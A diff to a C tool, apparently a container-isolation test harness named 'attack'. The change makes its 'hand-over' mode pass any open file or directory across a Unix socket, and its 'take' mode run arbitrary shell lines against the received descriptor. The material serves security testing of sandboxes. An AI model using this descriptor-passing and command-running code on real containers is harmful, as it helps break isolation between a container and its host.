@@ -8,9 +8,10 @@
  *   attack descriptors         uses descriptors that were not handed over
  *   attack signals             signals every process that there is
  *   attack privileges          looks for those that neither the user nor docker's default gives
- *   attack hand-over SOCKET    sends its root to whoever listens there
- *   attack take SOCKET         listens there (outside), and when it gets a line on its standard input says
- *                              what can be read and made in the root that it was sent
+ *   attack hand-over SOCKET FILE
+ *                              sends an open file or directory to whoever listens there
+ *   attack take SOCKET         listens there (outside), and runs each line of its standard input with the shell,
+ *                              with what it was sent as descriptor 9
  *   attack exchange A B        exchanges two names until it is killed (renameat2)
  */
 #define _GNU_SOURCE /* musl hides process_vm_readv */
@@ -34,6 +35,7 @@
 #define PIDS_MAX        400 /* of the cell's own namespace, which counts from 1 */
 #define DESCRIPTORS_MAX 4096
 #define DOCKER_DEFAULT  0xa80425fbULL
+#define TAKEN_FD        9
 #define RENAME_BOTH     2 /* RENAME_EXCHANGE of <linux/fs.h> */
 
 static void say(const char *what, const char *where)
@@ -228,9 +230,9 @@ union one_fd {
     char space[CMSG_SPACE(sizeof(int))];
 };
 
-static int hand_over(const char *path)
+static int hand_over(const char *path, const char *file)
 {
-    int root = open("/", O_RDONLY | O_DIRECTORY), fd = unix_socket(path, connect);
+    int sent = open(file, O_RDONLY), fd = unix_socket(path, connect);
     union one_fd ancillary = {.header = {.cmsg_level = SOL_SOCKET,
                                          .cmsg_type = SCM_RIGHTS,
                                          .cmsg_len = CMSG_LEN(sizeof(int))}};
@@ -240,15 +242,15 @@ static int hand_over(const char *path)
                              .msg_control = &ancillary,
                              .msg_controllen = sizeof(ancillary)};
 
-    memcpy(CMSG_DATA(&ancillary.header), &root, sizeof(root));
+    memcpy(CMSG_DATA(&ancillary.header), &sent, sizeof(sent));
     return sendmsg(fd, &message, 0) == 1 ? 0 : 1;
 }
 
 static int take(const char *path)
 {
-    int server = unix_socket(path, bind), client, root;
+    int server = unix_socket(path, bind), client, taken;
     union one_fd ancillary;
-    char byte;
+    char byte, line[4096];
     struct iovec part = {&byte, 1};
     struct msghdr message = {.msg_iov = &part,
                              .msg_iovlen = 1,
@@ -258,14 +260,12 @@ static int take(const char *path)
     if (chmod(path, 0777) < 0 || listen(server, 1) < 0 ||
         (client = accept(server, NULL, NULL)) < 0 || recvmsg(client, &message, 0) != 1)
         return 1;
-    memcpy(&root, CMSG_DATA(&ancillary.header), sizeof(root));
-    while (read(STDIN_FILENO, &byte, 1) == 1) {
-        if (openat(root, "made-by-the-next", O_RDONLY) >= 0)
-            say("read", "made-by-the-next");
-        if (mkdirat(root, "made-from-outside", 0777) == 0)
-            say("made", "made-from-outside");
-        say("looked", "");
-        fflush(stdout);
+    memcpy(&taken, CMSG_DATA(&ancillary.header), sizeof(taken));
+    if (dup2(taken, TAKEN_FD) < 0)
+        return 1;
+    while (fgets(line, sizeof(line), stdin)) {
+        if (system(line) < 0)
+            return 1;
     }
     return 0;
 }
@@ -281,8 +281,8 @@ int main(int argc, char **argv)
         {"signals", attack_signals},   {"privileges", attack_privileges},
     };
 
-    if (argc == 3 && strcmp(argv[1], "hand-over") == 0)
-        return hand_over(argv[2]);
+    if (argc == 4 && strcmp(argv[1], "hand-over") == 0)
+        return hand_over(argv[2], argv[3]);
     if (argc == 3 && strcmp(argv[1], "take") == 0)
         return take(argv[2]);
     if (argc == 4 && strcmp(argv[1], "exchange") == 0)
